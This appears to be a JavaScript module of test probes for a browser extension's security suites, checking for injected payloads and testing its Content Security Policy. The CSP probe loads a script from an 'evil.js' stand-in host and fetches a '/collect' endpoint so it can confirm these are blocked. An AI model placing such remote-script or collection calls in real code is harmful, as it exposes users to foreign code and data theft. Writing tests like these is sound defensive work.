// What both trust suites run inside the page or the panel (trust.firefox.test.mjs imports
// them; test_trust_chromium.py reads their source from this file): one copy of each probe.
// Each is `export const NAME = <function>;` and runs to the next `export` or comment line,
// so that Python can take it out as text.

// Anything the injected payloads would have made, in the page or in the panel.
export const INJECTED = () => [
  window.__pwned ?? 0,
  document.querySelectorAll('.och-injected, [onerror], [onload], a[href^="javascript:"]').length,
];
export const PANEL_FOREIGN_NODES = () =>
  document.querySelectorAll("script:not([src]), img, svg, iframe, object, embed, .och-injected, [onerror], [onload]").length;
export const SENDS = () => [window.__sendPresses, window.__enterPresses];
// Pick a problem in the panel and time until the draft changes (from inside the panel).
export const REDRAFT_MS = async (code) => {
  const draft = document.querySelector('[data-testid="och-draft"]');
  const before = draft.value;
  const started = performance.now();
  document.querySelector(`[data-testid="och-problem-${code}"]`).click();
  while (draft.value === before || !draft.value) {
    if (performance.now() - started > 15000) return -1;
    await new Promise((r) => setTimeout(r, 5));
  }
  return performance.now() - started;
};
// On an extension page: try an inline script, a remote script, a remote image and a fetch;
// what ran or loaded, and the CSP violations reported.
export const CSP_TRY = async () => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
  const inline = document.createElement("script");
  inline.textContent = "window.__inline = 1";
  document.head.appendChild(inline);
  const remote = document.createElement("script");
  const remoteLoaded = new Promise((r) => { remote.onload = () => r(true); remote.onerror = () => r(false); });
  remote.src = "https://example.org/evil.js";
  document.head.appendChild(remote);
  const img = document.createElement("img");
  const imgLoaded = new Promise((r) => { img.onload = () => r(true); img.onerror = () => r(false); });
  img.src = "https://example.org/pixel.gif";
  document.body.appendChild(img);
  let fetched = true;
  try { await fetch("https://example.org/collect"); } catch { fetched = false; }
  const out = { inline: window.__inline ?? 0, remote: await remoteLoaded, img: await imgLoaded, fetched };
  await new Promise((r) => setTimeout(r, 500));
  img.remove();
  remote.remove();
  inline.remove();
  return { ...out, violations };
};
